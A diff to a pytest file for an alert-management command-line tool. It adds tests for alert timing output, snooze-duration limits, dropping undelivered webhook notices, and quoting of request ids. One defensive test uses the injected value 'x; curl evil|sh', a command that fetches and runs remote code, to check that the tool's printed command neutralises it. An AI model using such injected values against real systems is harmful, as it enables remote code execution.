@@ -40,7 +40,8 @@ def found(here: Path, *alerts: Alert) -> None:
 
 def recent(number: int = 1, severity: Severity = "ticket", **more: str) -> Alert:
     alert = an_alert(number, severity=severity, **more)  # type: ignore[arg-type]
-    return replace(alert, opened=wall() - 7300, updated=wall())
+    evidence = replace(alert.evidence, onset=wall() - 10_900)
+    return replace(alert, opened=wall() - 7300, updated=wall(), evidence=evidence)
 
 
 def test_nothing_is_wrong(here: Path, capsys: pytest.CaptureFixture[str]) -> None:
@@ -60,11 +61,11 @@ def test_what_is_open_newest_first_with_what_was_found(here: Path, capsys: pytes
     assert code == 0
     assert [line.rstrip() for line in out.splitlines()] == [
         "✕ page   2  other: pii: 1 conversation",
-        "         open, began 2 h ago · 0.871 → 0.830, −4.1 points [−6.0, −2.2], 412 conversations · support",
-        "         team",
+        "         open, opened 2 h ago · began about 3 h ago · −4.1 points [−6.0, −2.2], 412 conversations ·",
+        "         support team",
         "! ticket 1  support: helpful fell by 4.1 points",
-        "         open, began 2 h ago · 0.871 → 0.830, −4.1 points [−6.0, −2.2], 412 conversations · support",
-        "         team",
+        "         open, opened 2 h ago · began about 3 h ago · −4.1 points [−6.0, −2.2], 412 conversations ·",
+        "         support team",
         "! 2 notices are not delivered: `gatewatch alerts undelivered`",
     ]
     _, only, _ = run(capsys, "alerts", "--flow", "other", "--json")
@@ -127,6 +128,8 @@ def test_what_was_resolved_is_not_opened_beside_another_of_its_cause(
         (("show", "7"), "error: 7: there is no such alert (there was none yet)"),
         (("ack", "7"), "error: 7: there is no such alert (there was none yet)"),
         (("snooze", "1", "--for", "long"), "Error: Invalid value for --for: expected a duration"),
+        (("snooze", "1", "--for", "30000d"), "Error: Invalid value for --for: must be a year at most, got '30000d'"),
+        (("snooze", "1", "--for", "99999999999d"), "Error: Invalid value for --for: expected a duration of 100 years"),
         (("resolve", "1"), "Error: Missing option '--reason'"),
         (("test", "pager:x"), "Error: Invalid value for CHANNEL: 'pager' is no kind of channel"),
         (("show", "0"), "Error: Invalid value for 'N'"),
@@ -184,6 +187,31 @@ def test_what_was_not_delivered_is_listed_and_the_doctor_says_so(
     code, out, _ = run(capsys, "doctor")
     assert code == 2
     assert "✕ alerts: webhook:hooks.example/...: 1 notice not delivered: status 404: no hook" in out
+
+
+@pytest.mark.parametrize(
+    ("request_id", "typed"),
+    [("x; curl evil|sh", "gatewatch why 'x; curl evil|sh'"), ("--help", "gatewatch why -- --help")],
+)
+def test_a_command_to_be_copied_runs_nothing_that_a_sender_chose(
+    here: Path, capsys: pytest.CaptureFixture[str], request_id: str, typed: str
+) -> None:
+    alert = recent()
+    found(here, replace(alert, evidence=replace(alert.evidence, traces=(request_id,))))
+    assert typed in run(capsys, "alerts", "show", "1")[1]
+
+
+def test_what_waits_for_a_channel_that_is_no_more_is_given_up(here: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    found(here, recent())
+    code, _, err = run(capsys, "alerts", "undelivered", "--drop", "webhook:hooks.exampel/...")
+    assert (code, err) == (
+        2,
+        "error: webhook:hooks.exampel/...: nothing waits for this channel "
+        '(did you mean "webhook:hooks.example/..."?)\n',
+    )
+    _, out, _ = run(capsys, "alerts", "undelivered", "--drop", "webhook:hooks.example/...")
+    assert out == "1 notice to webhook:hooks.example/... given up\n"
+    assert run(capsys, "alerts", "undelivered")[1] == "everything was delivered\n"
 
 
 def test_what_traffic_is_called_steers_no_terminal(here: Path, capsys: pytest.CaptureFixture[str]) -> None:
